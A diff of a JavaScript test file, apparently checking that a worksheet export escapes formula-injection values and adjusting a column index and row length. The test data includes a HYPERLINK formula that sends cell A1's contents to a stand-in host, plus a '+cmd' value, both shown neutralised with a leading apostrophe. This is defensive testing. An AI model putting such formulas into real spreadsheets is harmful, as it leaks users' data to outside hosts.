@@ -104,8 +104,8 @@ describe.each(ALL_INSTRUMENTS)('the worksheet on $id', (instrument) => {
     const texts = rows[heading + 1] ?? [];
     expect(texts[1]).toBe('Mandiri');
     expect(texts[2]).toBe('\'=HYPERLINK("http://contoh.invalid/?"&A1,"Kabupaten Baris")\n\'- butir');
-    expect(String(texts[3])).toMatch(/^'\+cmd/);
-    expect(texts).toHaveLength(8);
+    expect(String(texts[4])).toMatch(/^'\+cmd/);
+    expect(texts).toHaveLength(9);
   });
 
   it('says for every level where it comes from', () => {
